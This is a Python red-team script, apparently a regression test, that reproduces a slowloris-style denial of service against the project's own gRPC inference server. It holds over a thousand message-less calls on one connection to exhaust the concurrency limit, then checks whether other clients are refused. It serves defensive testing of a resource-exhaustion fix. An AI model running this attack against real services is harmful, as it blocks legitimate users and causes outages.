"""Slow gRPC calls: one anonymous client opens N calls on one connection, sends each call's headers
and never its message, and holds them; then a well-behaved client asks for ServerLive and ModelInfer.

    .venv/bin/python bench/redteam_issue10/grpc_slowloris.py [N] [hold seconds] [--empty]

--empty: each call ends its stream at once with no message at all (a unary call without its request):
grpc's unary handler then waits forever, holding the slot until the client goes away.

Expected: the held calls are cut off after a bound (as the HTTP front end's body timeout does) or
counted per connection/address, so other clients are served. Before the fix: every RPC of every
client is refused RESOURCE_EXHAUSTED while the attacker holds [grpc] max_concurrent_rpcs calls, for
as long as it likes (the connection is never idle, max_connection_age is 30 minutes).
"""

from __future__ import annotations

import os
import sys
import threading
import time

import grpc
from common import demo

from bastion.grpc import grpc_predict_v2_pb2 as pb
from bastion.grpc.grpc_predict_v2_pb2_grpc import GRPCInferenceServiceStub

N = int(sys.argv[1]) if len(sys.argv) > 1 else 1100
HOLD = float(sys.argv[2]) if len(sys.argv) > 2 else 20.0
EMPTY = "--empty" in sys.argv
d = demo()
stop = threading.Event()


def never() -> object:
    stop.wait()
    return
    yield b""  # a generator that sends nothing until told to stop


attacker = grpc.insecure_channel(d.grpc)
call = attacker.stream_unary(
    "/inference.GRPCInferenceService/ServerLive",
    request_serializer=lambda b: b,
    response_deserializer=lambda b: b,
)
futures = [call.future(iter(()) if EMPTY else never(), timeout=HOLD + 60) for _ in range(N)]
time.sleep(3)
print(f"attacker holds {N} calls with no message on one connection ({'ended' if EMPTY else 'open'} streams)")


def probe() -> str:
    # BASTION_GRPC_VICTIM: the same server reached from another client address (e.g. "[::1]:8001"
    # when [grpc] host = "localhost"); by default the attacker's own address.
    with grpc.insecure_channel(os.environ.get("BASTION_GRPC_VICTIM", d.grpc)) as ch:
        stub = GRPCInferenceServiceStub(ch)
        try:
            stub.ServerLive(pb.ServerLiveRequest(), timeout=5)
            return "OK"
        except grpc.RpcError as e:
            return f"{e.code().name}: {e.details()}"


t0 = time.time()
results = []
while time.time() - t0 < HOLD:
    results.append(probe())
    time.sleep(1)
print("victim ServerLive over", round(time.time() - t0), "s:", {r: results.count(r) for r in set(results)})
outcomes: dict[str, int] = {}
for f in futures:
    if f.done():
        e = f.exception()
        key = (
            "OK"
            if e is None
            else f"{e.code().name} {dict(e.trailing_metadata() or ()).get('bastion-error-code')}"
        )
        outcomes[key] = outcomes.get(key, 0) + 1
print("attacker's calls ended before release:", outcomes or "none")
stop.set()
time.sleep(1)
print("after release:", probe())
held = sum(1 for f in futures if not f.done())
print("attacker calls still open after release:", held)
attacker.close()
